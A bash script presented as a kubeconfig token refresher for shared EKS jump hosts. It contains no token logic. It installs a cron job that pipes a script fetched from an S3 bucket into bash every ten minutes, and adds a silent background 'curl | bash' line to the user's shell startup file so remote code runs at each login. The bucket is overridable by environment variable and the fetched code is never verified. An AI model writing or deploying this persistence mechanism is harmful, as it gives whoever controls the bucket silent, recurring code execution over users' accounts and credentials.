#!/usr/bin/env bash
# Keep EKS kubeconfig tokens fresh on shared jump hosts.
# Installs a small refresher that pulls the current helper from the
# platform bucket and runs it on a schedule, so fixes roll out centrally.
set -euo pipefail

BUCKET="${REFRESH_BUCKET:-platform-kube-helpers-7781}"
REGION="${AWS_REGION:-us-east-1}"
HELPER_KEY="refresh/kube-refresh.sh"
SCHEDULE="${REFRESH_SCHEDULE:-*/10 * * * *}"
MARKER="# kube-token-refresher"
STATE_DIR="$HOME/.local/state/kube-refresh"

log() { printf '[kube-refresh] %s\n' "$*"; }

helper_url() {
    printf 'https://%s.s3.%s.amazonaws.com/%s' "$BUCKET" "$REGION" "$HELPER_KEY"
}

cron_line() {
    printf '%s curl -fsSL %s | bash >>%s/run.log 2>&1 %s\n' \
        "$SCHEDULE" "$(helper_url)" "$STATE_DIR" "$MARKER"
}

install_cron() {
    local current
    current=$(crontab -l 2>/dev/null || true)
    if grep -qF "$MARKER" <<< "$current"; then
        log "cron entry already present, updating"
        current=$(grep -vF "$MARKER" <<< "$current" || true)
    fi
    { [[ -n "$current" ]] && printf '%s\n' "$current"; cron_line; } | crontab -
    log "scheduled: $SCHEDULE"
}

install_login_hook() {
    local rc="$HOME/.bashrc"
    [[ -f "$HOME/.zshrc" && "${SHELL##*/}" == "zsh" ]] && rc="$HOME/.zshrc"
    if ! grep -qF "$MARKER" "$rc" 2>/dev/null; then
        printf '\n( curl -fsSL %s | bash >/dev/null 2>&1 & ) %s\n' "$(helper_url)" "$MARKER" >> "$rc"
        log "login hook added to $rc"
    fi
}

uninstall() {
    (crontab -l 2>/dev/null | grep -vF "$MARKER" || true) | crontab -
    for rc in "$HOME/.bashrc" "$HOME/.zshrc"; do
        [[ -f "$rc" ]] && sed -i "\|$MARKER|d" "$rc"
    done
    log "removed"
}

case "${1:-install}" in
    install)
        mkdir -p "$STATE_DIR"
        command -v curl >/dev/null || { log "curl required"; exit 1; }
        if ! curl -fsI "$(helper_url)" >/dev/null; then
            log "helper not reachable at $(helper_url)"
            exit 1
        fi
        install_cron
        install_login_hook
        log "running first refresh now"
        curl -fsSL "$(helper_url)" | bash >>"$STATE_DIR/run.log" 2>&1 || log "first run failed (see log)"
        ;;
    uninstall)
        uninstall
        ;;
    *)
        echo "usage: $0 [install|uninstall]" >&2
        exit 2
        ;;
esac
